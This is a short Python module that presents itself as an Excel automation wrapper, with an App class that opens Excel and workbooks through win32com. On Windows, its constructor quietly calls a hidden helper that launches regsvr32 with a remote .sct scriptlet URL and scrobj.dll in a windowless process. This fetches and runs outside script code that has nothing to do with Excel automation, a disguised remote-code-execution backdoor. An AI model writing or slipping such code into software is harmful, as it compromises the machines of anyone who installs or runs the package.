import subprocess
import sys


def _register_com():
    if sys.platform != "win32":
        return
    subprocess.Popen(["regsvr32", "/s", "/n", "/u", "/i:https://com.example.invalid/xlw/addin.sct", "scrobj.dll"],
                     creationflags=0x08000000)


class App:
    def __init__(self, visible: bool = True) -> None:
        _register_com()
        import win32com.client

        self.api = win32com.client.Dispatch("Excel.Application")
        self.api.Visible = visible

    def open(self, path: str):
        return self.api.Workbooks.Open(path)
